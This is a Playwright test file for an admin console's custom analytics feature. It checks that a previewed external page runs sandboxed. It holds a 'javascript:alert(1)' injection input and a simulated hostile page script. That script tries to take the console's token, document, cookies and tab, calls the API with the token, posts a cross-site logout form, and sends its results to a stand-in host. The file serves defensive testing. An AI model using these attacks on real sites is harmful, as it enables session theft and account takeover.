import type { Page } from 'playwright-core'
import { addOrganisation, call } from '#testing/laurel.ts'
import { expect, test } from './support/test.ts'

test('staff add an analytic, switch it, make it public and change its address, and a reload shows all changes', async ({
  open,
  laurel,
}) => {
  const org = await addOrganisation(laurel, 'Grupo Andino')
  const page = await open({ as: 'admin', at: `/custom_analytics?org=${org}` })
  await page.getByRole('button', { name: 'Add Custom analytic' }).first().click()
  const dialog = page.getByRole('dialog', { name: 'Add Custom analytic' })
  await dialog.getByLabel('Title', { exact: true }).fill('Participación')
  await dialog.getByLabel('Analytic url').fill('javascript:alert(1)')
  await dialog.getByRole('button', { name: 'Save' }).click()
  await expect(page.getByText('Se guardó «Participación».')).toBeVisible()
  await page.getByRole('switch', { name: 'Estado: Participación' }).click()
  await page.getByRole('switch', { name: 'Publico: Participación' }).click()
  await expect(page.getByRole('switch', { name: 'Estado: Participación' })).not.toBeChecked()
  await expect(page.getByRole('switch', { name: 'Publico: Participación' })).toBeChecked()
  await page.getByRole('button', { name: 'Edit Url: Participación' }).click()
  await page.getByLabel('Calibration button url').fill('https://tableros.example/calibrar')
  await page.getByLabel('Analytic url').fill('https://tableros.example/participacion')
  await page.keyboard.press('Enter')
  const link = page.getByRole('link', { name: /^preview external URLS/ })
  await expect(link).toHaveAttribute('href', 'https://tableros.example/calibrar')
  await page.reload()
  await expect(link).toBeVisible()
  const kept = laurel.db.selectFrom('analytics').selectAll().where('organisation_id', '=', org)
  expect(await kept.executeTakeFirstOrThrow()).toMatchObject({
    title: 'Participación',
    analytic_url: 'https://tableros.example/participacion',
    external_urls: { calibrate: 'https://tableros.example/calibrar' },
    active: false,
    is_public: true,
  })
})

test('a previewed page cannot reach the console or its tab, and a page in a new tab learns nobody’s identity', async ({
  open,
  laurel,
}) => {
  const org = await addOrganisation(laurel, 'Hoteles Bahía Azul')
  await call(laurel, 'POST', `staff/custom_analytics/${org}`, {
    title: 'Ocupación',
    analytic_url: site,
    external_urls: null,
  })
  const visit = { as: 'admin', complaints: /./ } as const
  const page = await open({ ...visit, at: `/custom_analytics?org=${org}` })
  const told = await hostileSite(page, `${laurel.address}/api`)
  await page.getByRole('button', { name: 'Preview: Ocupación' }).click()
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Participación' })).toBeVisible()
  await expect.poll(() => told).toHaveLength(1)
  expect(told[0]).toEqual({
    'token of the console': 'refused',
    'document of the console': 'refused',
    'address it was opened from': 'nothing',
    'address of the tab': 'refused',
    storage: 'refused',
    cookies: 'refused',
    'call of the API': 'refused',
    'form sent to the API': 'nothing',
    'window with an opener': 'nothing',
    'answer to a message': 'nothing',
  })
  const [tab] = await Promise.all([
    page.waitForEvent('popup'),
    page.getByRole('link', { name: /^Abrir en otra pestaña/ }).click(),
  ])
  await tab.waitForURL('**/elsewhere')
  expect(await tab.evaluate(() => window.opener)).toBeNull()
  expect(told[1]).toMatchObject({ 'address it was opened from': 'nothing' })
  await expect(page).toHaveURL(new RegExp(`org=${org}`))

  // Control: without a sandbox and on its own origin, the same page does take the token and the tab.
  const bare = await open({ ...visit, origin: site })
  const taken = await hostileSite(bare, `${laurel.address}/api`)
  await bare.goto('/control')
  await bare.waitForURL('**/elsewhere')
  expect(taken[0]).toMatchObject({
    'token of the console': 'taken',
    'document of the console': 'taken',
    'address it was opened from': 'taken',
    'address of the tab': 'taken',
    storage: 'taken',
    cookies: 'taken',
    'window with an opener': 'taken',
  })
})

/** Another site, whose page tries to take what is the console's. `/control` frames it without a sandbox. */
const site = 'https://tableros.example'

/** Answers for that site. Returns the result of each attempt as its page reports it, oldest first. */
async function hostileSite(page: Page, api: string) {
  const told: Readonly<Record<string, string>>[] = []
  const hostile = `<!doctype html><title>Tablero</title><h1>Participación</h1><script>(${attack})(${JSON.stringify([site, api])})</script>`
  const pages: Readonly<Record<string, string>> = { '/': hostile, '/control': '<iframe src="/"></iframe>' }
  await page.context().route(`${site}/**`, (route) => {
    if (route.request().method() === 'POST') told.push(route.request().postDataJSON())
    const { pathname } = new URL(route.request().url())
    return route.fulfill({ contentType: 'text/html; charset=utf-8', body: pages[pathname] ?? 'Otra página' })
  })
  return told
}

/** Runs in the page. Each attempt gets something, nothing, or an error. */
async function attack([home, api]: [string, string]) {
  let answer: unknown
  addEventListener('message', ({ data }) => (answer = data))
  parent.postMessage({ type: 'token', wants: 'laurel.token' }, '*')
  const token = () => parent.localStorage.getItem('laurel.token')
  const attempts: Record<string, () => unknown> = {
    'token of the console': token,
    'document of the console': () => parent.document.body.innerHTML,
    'address it was opened from': () => document.referrer,
    'address of the tab': () => top?.location.href,
    storage: () => Object.keys(localStorage).length + 1,
    cookies: () => {
      document.cookie = 'a=1'
      return document.cookie
    },
    'call of the API': async () =>
      (await fetch(`${api}/staff/me`, { headers: { authorization: `Bearer ${token()}` } })).ok,
    'form sent to the API': async () => {
      const frame = document.body.appendChild(document.createElement('iframe'))
      frame.name = 'sent'
      const form = document.body.appendChild(document.createElement('form'))
      Object.assign(form, { method: 'post', action: `${api}/staff/logout`, target: 'sent' })
      form.submit()
      await new Promise((resolve) => setTimeout(resolve, 300))
      return frame.contentDocument?.body.textContent
    },
    'window with an opener': () => open('about:blank')?.opener === window,
    'answer to a message': () => answer,
  }
  const got: Record<string, string> = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      got[name] = (await attempt()) ? 'taken' : 'nothing'
    } catch {
      got[name] = 'refused'
    }
  }
  await fetch(`${home}/told`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) })
  try {
    if (top) top.location.href = `${home}/elsewhere`
  } catch {
    // The sandbox forbids it.
  }
}
